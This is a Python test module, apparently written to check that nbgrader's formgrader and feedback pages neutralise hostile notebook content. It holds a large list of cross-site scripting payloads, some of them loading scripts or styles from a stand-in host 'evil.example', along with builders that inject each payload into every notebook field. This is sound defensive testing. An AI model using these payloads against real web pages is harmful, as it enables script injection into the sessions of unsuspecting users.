"""What somebody might write to make a page run it, and pages to try it on."""

from __future__ import annotations

import base64
import re
from collections import Counter
from html import unescape
from pathlib import Path
from typing import Any

import nbgrader
from bs4 import BeautifulSoup
from nbconvert.exporters import HTMLExporter
from nbformat import NotebookNode, from_dict
from traitlets.config import Config

TEMPLATES = Path(nbgrader.__file__).parent / "server_extensions" / "formgrader"
RUN = "document.title='owned'"

PAYLOADS = [
    f"<script>{RUN}</script>",
    f"<SCRIPT\n>{RUN}</SCRIPT\n>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "<script src=//evil.example/x.js></script>",
    f"<img src=x onerror={RUN}>",
    f'<img src=x onerror="{RUN}"',
    f"<img/src/onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><style><img src=x onerror={RUN}></style></svg>",
    '<svg><use href="data:image/svg+xml;base64,PHN2Zy8+#x"></use></svg>',
    "<math><mtext><table><mglyph><style><!--</style>"
    f"<img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>",
    f'<math href="javascript:{RUN}">x</math>',
    f"<iframe src=javascript:{RUN}></iframe>",
    f'<iframe srcdoc="&lt;script&gt;{RUN}&lt;/script&gt;"></iframe>',
    f"<object data=javascript:{RUN}></object>",
    f"<embed src=javascript:{RUN}>",
    f"<form action=javascript:{RUN}><input type=submit value=go></form>",
    f"<button formaction=javascript:{RUN}>go</button>",
    f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}><summary>x</summary></details>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<body onload={RUN}>",
    f'<meta http-equiv=refresh content="0;url=javascript:{RUN}">',
    '<meta http-equiv="Content-Security-Policy" content="">',
    "<link rel=stylesheet href=//evil.example/x.css>",
    f'<link rel=import href="data:text/html,<script>{RUN}</script>">',
    "<base href=//evil.example/>",
    "<style>*{display:none}</style>",
    f'<style>@import "javascript:{RUN}";</style>',
    "<div style=\"background:url('javascript:x')\">x</div>",
    '<div class="score" id="why-one-over-m">10</div>',
    f'<a href="javascript:{RUN}">x</a>',
    f'<a href="jav&#x09;ascript:{RUN}">x</a>',
    f'<a href=" &#14; javascript:{RUN}">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    f"[x](javascript:{RUN})",
    f"[x](JaVaScRiPt:{RUN})",
    f"[x](javascript&#58;{RUN})",
    f"[x](&#x6A&#x61&#x76&#x61script:{RUN})",
    f"[x](<java\tscript:{RUN}>)",
    f"[x](files/javascript:{RUN})",
    f"[x](/files/javascript:{RUN})",
    "[x](vbscript:x)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](evil.html)",
    "[x](//evil.example)",
    f"[x][r]\n\n[r]: javascript:{RUN}",
    f'[x](https://a.example "\'onmouseover={RUN}")',
    f'[x](https://a.example/"onmouseover={RUN}")',
    f"<javascript:{RUN}>",
    f"<javascript&colon;{RUN}>",
    f"![x](javascript:{RUN})",
    f"![x](x.png 'x\" onerror=\"{RUN}')",
    f'![x" onerror="{RUN}](x.png)',
    "![x](https://evil.example/seen.png)",
    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    "![x](attachment:evil.png)",
    f"[![x](javascript:{RUN})](javascript:{RUN})",
    f"```mermaid\n<script>{RUN}</script>\n```",
    f"~~~ mermaid\n<img src=x onerror={RUN}>\n~~~",
    f'```x"><script>{RUN}</script>\ncode\n```',
    f"```python\n</pre><script>{RUN}</script>\n```",
    f"`</code><script>{RUN}</script>`",
    f'`<a href="`"><img src=x onerror={RUN}>`',
    f"<details>\n`<script>{RUN}</script>`\n</details>",
    f"<sub>\n`<script>{RUN}</script>`",
    f"<!-- --><script>{RUN}</script>-->",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<?php <script>{RUN}</script> ?>",
    f"<!DOCTYPE x [<!ENTITY y '<script>{RUN}</script>'>]>",
    f"</div></div></pre></textarea></title><script>{RUN}</script>",
    f"<xss onpointerrawupdate={RUN} contenteditable autofocus>x</xss>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<textarea><img title='</textarea><img src=x onerror={RUN}>'>",
    f"<template><script>{RUN}</script></template>",
    f"$$</div><script>{RUN}</script>$$",
    f"$\\href{{javascript:{RUN}}}{{x}}$",
    f"&#36;\\hr&#101;f{{javascript:{RUN}}}{{x}}&#36;",
    "\\begin{align}<script>x</script>\\end{align}",
    "$\\unicode{<img src=x onerror=x>}$ $\\require{html} \\style{x:y}{z}$",
    f"| a | b |\n|---|---|\n| <img src=x onerror={RUN}> | [x](javascript:x) |",
    f"# <img src=x onerror={RUN}>",
    "# why-one-over-m",
    "# hidden-update_parameters",
    f"> - 1. <script>{RUN}</script>",
    f"term\n: <script>{RUN}</script>",
    f"\x1b[31m<script>{RUN}</script>\x1b[0m",
    f"\x1b]8;;javascript:{RUN}\x07x\x1b]8;;\x07",
    "\x1b[38m \x1b[48;5m \x1b[38;2;1m \x1b[38;5;999m",  # nbconvert's filter fails on these
    f"\u202e<\x00script>{RUN}<\x00/script>",
    "\ud800<script>x</script>",
    "&#x202e;&#1;&#x9b;31m <p>&#x202e;&#1;</p>",
    f"{{{{ cycler.__init__ }}}}{{% raw %}}<script>{RUN}</script>",
]

ACTIVE = {
    *("script", "iframe", "object", "embed", "form", "meta", "link", "base", "style", "svg"),
    *("math", "frame", "frameset", "applet", "audio", "video", "source", "template", "input"),
    *("button", "textarea", "select", "noscript", "portal", "xss", "title", "body"),
}
ADDRESSES = ("href", "src", "action", "formaction", "data", "srcset", "poster", "xlink:href")
PICTURE = re.compile(r"[\w/-]+\.(?:png|svg)")
COLOUR = re.compile(r"(?:background-)?color: rgb\([\d,]+\)")
TAKEN = ("why-one-over-m", "hidden-update_parameters", "notebook", "statusmessage")
HARMLESS = ("https://", "http://", "mailto:", "#", "data:image/png;", "data:image/jpeg;")


def formgrader_page(notebook: NotebookNode, **more: Any) -> str:
    """Write the page that formgrader shows, as its handler does."""
    config = Config()
    config.HTMLExporter.template_name = "formgrade"
    config.HTMLExporter.extra_template_basedirs = [str(TEMPLATES / "templates")]
    resources = {
        "assignment_id": "step-by-step", "notebook_id": "step-by-step", "submission_id": "1",
        "index": 0, "total": 1, "base_url": "", "student": "Ann", "last_name": None,
        "first_name": None, "notebook_path": "autograded/Ann/step-by-step/step-by-step.ipynb",
    }  # fmt: skip
    page, _ = HTMLExporter(config=config).from_notebook_node(notebook, resources | more)
    return str(page)


def feedback_page(notebook: NotebookNode) -> str:
    """Write nbgrader's feedback page with its own template."""
    config = Config()
    config.HTMLExporter.template_name = "feedback"
    config.HTMLExporter.extra_template_basedirs = [str(TEMPLATES / "templates")]
    css = TEMPLATES / "static" / "node_modules" / "bootstrap" / "dist" / "css"
    config.HTMLExporter.extra_template_paths = [str(css)]
    about = {"notebook": "step-by-step", "score": 1.0, "max_score": 2.0, "late_penalty": 0}
    page, _ = HTMLExporter(config=config).from_notebook_node(notebook, {"nbgrader": about})
    return str(page)


PAGES = {"formgrader": formgrader_page, "feedback": feedback_page}


def active_parts(page: str) -> Counter[str]:
    """Count everything in a page that runs, loads or leads somewhere."""
    found: Counter[str] = Counter()
    for element in BeautifulSoup(page, "html.parser").find_all(True):
        if element.name in ACTIVE:
            found[str(element) if element.name != "body" else f"body {element.attrs}"] += 1
        for name, value in element.attrs.items():
            text = unescape(value if isinstance(value, str) else " ".join(value)).strip().lower()
            leads = name in ADDRESSES and not text.startswith(HARMLESS)
            if element.name == "img" and PICTURE.fullmatch(text):
                leads = False
            styled = name == "style" and not COLOUR.fullmatch(text)
            if leads or styled or name.startswith("on") or name == "srcdoc" or text in TAKEN:
                found[f"{element.name} {name}={value}"] += 1
    return found


def hostile(*texts: str) -> NotebookNode:
    """Make a notebook that says texts wherever a submission can say anything."""
    notebook = _hostile(texts[0])
    notebook.cells += [cell for text in texts[1:] for cell in _hostile(text).cells]
    return notebook


def _hostile(text: str) -> NotebookNode:
    b64 = base64.b64encode(text.encode("utf-8", "replace")).decode()
    kinds = ["text/plain", "text/html", "text/markdown", "text/latex", "image/svg+xml"]
    kinds += ["application/javascript", "text/vnd.mermaid", "application/json", "image/png"]
    kinds += ["application/vnd.jupyter.widget-view+json", "application/pdf", "image/jpeg", text]
    meta = {"width": text, "height": text, "alt": text, "isolated": True, "unconfined": text}
    outputs: list[dict[str, Any]] = [
        {"output_type": "stream", "name": "stdout", "text": text},
        {"output_type": "stream", "name": "stderr", "text": [text, text]},
        {"output_type": "stream", "name": text, "text": text},
        {"output_type": "error", "ename": text, "evalue": text, "traceback": [text, text]},
        {"output_type": text, "text": text},
        {"output_type": "execute_result", "execution_count": text, "metadata": {}, "data": {}},
    ]
    for kind in kinds:
        value = b64 if kind in ("image/png", "application/pdf") else text
        about = {**meta, kind: meta, "filenames": {kind: text}}
        shown = {"output_type": "display_data", "data": {kind: value}, "metadata": about}
        outputs.append({**shown, "svg_filename": text})
    metadata = {
        "tags": [text], "name": text, "raw_mimetype": "text/html", "format": "text/html",
        "alt": text, "magics_language": text, "transient": {"remove_source": True},
        "autograder_verdict": {"words": text}, "widgets": text, "trusted": True,
    }  # fmt: skip
    cells: list[dict[str, Any]] = [
        {"cell_type": "code", "outputs": outputs, "execution_count": text, "source": text},
        {
            "cell_type": "code",
            "outputs": text,
            "execution_count": None,
            "source": f"%%html\n{text}",
        },
        {"cell_type": "markdown", "source": text, "attachments": {text: {"text/html": b64}}},
        {"cell_type": "markdown", "source": f"{text}\n\n{text} {text}"},
        {"cell_type": "markdown", "source": f"- a\n  {text}", "attachments": text},
        {"cell_type": "markdown", "source": f"# {text}\n\n> {text}\n\n**{text}** $x$ {text}"},
        {"cell_type": "raw", "source": text},
        {"cell_type": "raw", "source": text, "metadata": {"raw_mimetype": ""}},
        {"cell_type": "raw", "source": text, "metadata": {}, "attachments": {"x": {}}},
        {"cell_type": text, "type": text, "source": text},
    ]
    named: dict[str, Any] = {"title": text, "authors": text, "celltoolbar": text}
    named["kernelspec"] = {"name": text, "display_name": text, "language": text}
    named["language_info"] = {"name": text, "pygments_lexer": text}
    named["widgets"] = {"application/vnd.jupyter.widget-state+json": {"x": text}}
    shaped = [{"id": text, "metadata": metadata, **cell} for cell in cells]
    return from_dict({"nbformat": 4, "nbformat_minor": 5, "metadata": named, "cells": shaped})
